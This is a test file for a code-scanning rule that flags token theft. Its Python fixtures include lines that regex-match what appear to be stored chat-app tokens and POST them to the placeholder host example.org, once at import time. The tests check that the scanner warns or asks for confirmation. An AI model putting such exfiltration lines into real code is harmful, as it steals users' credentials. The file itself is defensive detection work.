import { expect, it } from 'vitest'
import { sightingsOf } from '../code-rule.test-support.ts'
import { rule } from './token-theft.ts'

it('warns of the pattern in code that acts', async () => {
  expect(
    await sightingsOf(rule, {
      'demo/a.py':
        "import re, requests\ndef f(t):\n    requests.post('https://example.org', data=re.findall('dQw4w9WgXcQ:[^x]*', t))\n",
    }),
  ).toEqual(['warn demo/a.py:3'])
})

it('asks when it runs on import', async () => {
  expect(
    await sightingsOf(rule, {
      'demo/a.py': "import re, requests\nrequests.post('https://example.org', data=re.findall('dQw4w9WgXcQ:[^x]*', 'x'))\n",
    }),
  ).toEqual(['confirm demo/a.py:2'])
})

it('leaves a pattern that nothing uses', async () => {
  expect(await sightingsOf(rule, { 'demo/a.py': "P = 'dQw4w9WgXcQ:[^x]*'\n" })).toEqual([])
})
